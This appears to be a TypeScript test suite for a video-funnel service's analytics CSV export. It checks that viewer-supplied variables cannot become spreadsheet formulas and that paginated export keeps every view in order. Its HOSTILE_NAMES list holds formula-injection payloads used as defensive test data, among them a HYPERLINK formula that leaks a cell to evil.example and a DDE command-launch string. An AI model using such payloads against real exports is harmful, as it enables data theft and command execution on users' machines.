import { addVideo, createFunnel, freePlan, subscribedUser, uuid } from './support/content';
import { client } from './support/http';
import { day } from './support/analytics';
import { formulaFields, spreadsheetFields } from './support/spreadsheet';
import { useApiSuite } from './support/suite';

/**
 * The analytics CSV with what viewers and creators typed in it: no cell a spreadsheet makes of it
 * starts a formula, whichever separator it splits on, and numbers stay numbers. Every view of the
 * range is listed, read a page at a time, in the same order as one query would give.
 */
const suite = useApiSuite();

const VARIABLES = [
  { name: 'name', type: 'text', default: '', fromUrl: true },
  { name: 'score', type: 'number', default: 0 },
];

/** What a viewer can set a text variable to (a link's `?name=…`, the embedding page's message). */
const HOSTILE_NAMES = [
  'Ada;=HYPERLINK("http://evil.example/?"&A1,"Ada")',
  'Ada,=1+1',
  'Ada\t=1+1',
  'Ada|@SUM(A1:A9)',
  ' =1+1',
  'Ada; -2+3',
  'Ada;"=1+1"',
  'Ada\n+1',
  'Ada;\uff1d1+1',
  "=cmd|' /C calc'!A0",
];

const csvFunnel = async () => {
  const owner = await subscribedUser(suite.admin, (await freePlan(suite.admin)).id);
  const video = await addVideo(owner, { title: 'Intro;=1+1' });
  const funnel = await createFunnel(owner);
  const document = {
    title: 'CSV',
    description: '',
    settings: { enable_resume_play: true },
    variables: VARIABLES,
    videos: [{ id: video.id, editor_id: 'intro', elements: [] }],
  };
  expect((await owner.http.put(`/api/funnels/${funnel.id}`, document, owner.token)).status).toBe(200);
  return { owner, funnel };
};

const csvOf = async (owner: Awaited<ReturnType<typeof csvFunnel>>['owner'], funnelId: number) => {
  const res = await owner.http.get(`/api/funnels/${funnelId}/analytics.csv?from=${day(-1)}&to=${day()}`, owner.token).buffer(true);
  expect(res.status).toBe(200);
  return res.text;
};

describe('the analytics CSV', () => {
  it('lets no viewer-set variable start a formula, whatever a spreadsheet splits on; numbers stay numbers', async () => {
    const { owner, funnel } = await csvFunnel();
    const ref = funnel.identifier;
    const http = client();
    for (const name of HOSTILE_NAMES) {
      const start = await http.post(`/api/funnels/${ref}/views`, { event_id: uuid() });
      expect(start.status).toBe(201);
      const { view_id, view_token, viewer_token } = start.body.data as { view_id: string; view_token?: string; viewer_token: string };
      const put = await http.put(`/api/funnels/${ref}/views`, {
        view_id,
        view_token,
        viewer_token,
        editor_id: 'intro',
        last_watch_time: 3,
        watch_time: 3,
        variables: { name, score: -3 },
      });
      expect(put.status).toBe(200);
    }

    const text = await csvOf(owner, funnel.id);
    expect(formulaFields(text)).toEqual([]);
    // Under the file's own comma split: each view row keeps the text, with apostrophes added only.
    const rows = text.split('\r\n').filter((line) => line.startsWith('view,'));
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    const cells = spreadsheetFields(text, ',');
    const width = cells.indexOf('var_score') + 1;
    const views = Array.from({ length: cells.length / width }, (_, i) => cells.slice(i * width, (i + 1) * width)).filter((r) => r[0] === 'view');
    expect(views.map((r) => r[width - 2]!.replace(/'/g, '')).sort()).toEqual(HOSTILE_NAMES.map((n) => n.replace(/'/g, '')).sort());
    expect(new Set(views.map((r) => r[width - 1]))).toEqual(new Set(['-3']));
    expect(views.map((r) => r[width - 2])).toContain(`Ada;'=HYPERLINK("http://evil.example/?"&A1,"Ada")`);
    expect(text).toContain(`,Intro;'=1+1,`);
  });

  it('lists every view of the range, latest first, across pages and equal times', async () => {
    const { owner, funnel } = await csvFunnel();
    // 2,345 views over 7 instants: pages of the read end inside runs of equal times.
    const base = Date.now() - 60 * 60_000;
    const rows = Array.from({ length: 2345 }, (_, i) => {
      const at = new Date(base + (i % 7) * 60_000);
      return {
        funnel_id: funnel.id,
        event_id: uuid(),
        viewer_token: `csv-viewer-${String(i).padStart(8, '0')}`,
        watch_time: i,
        last_watch_time: i,
        editor_id: 'intro',
        variables: JSON.stringify({ name: i % 2 ? `Ada;=${i}` : `v${i}`, score: -i }),
        counted: true,
        created_at: at,
        updated_at: at,
      };
    });
    for (let i = 0; i < rows.length; i += 200) await suite.db('branchify_funnel_views').insert(rows.slice(i, i + 200));
    const expected: string[] = (
      await suite.db('branchify_funnel_views').where({ funnel_id: funnel.id }).orderBy('created_at', 'desc').orderBy('id', 'desc').select('event_id')
    ).map((r: { event_id: string }) => r.event_id);

    const text = await csvOf(owner, funnel.id);
    const header = text.slice(0, text.indexOf('\r\n')).split(',');
    const listed = text
      .split('\r\n')
      .filter((line) => line.startsWith('view,'))
      .map((line) => line.split(','));
    expect(listed.map((cells) => cells[header.indexOf('view_id')])).toEqual(expected);
    const odd = listed.find((cells) => cells[header.indexOf('watch_time')] === '1')!;
    expect([odd[header.indexOf('var_name')], odd[header.indexOf('var_score')]]).toEqual(["Ada;'=1", '-1']);
    expect(formulaFields(text)).toEqual([]);
  });
});
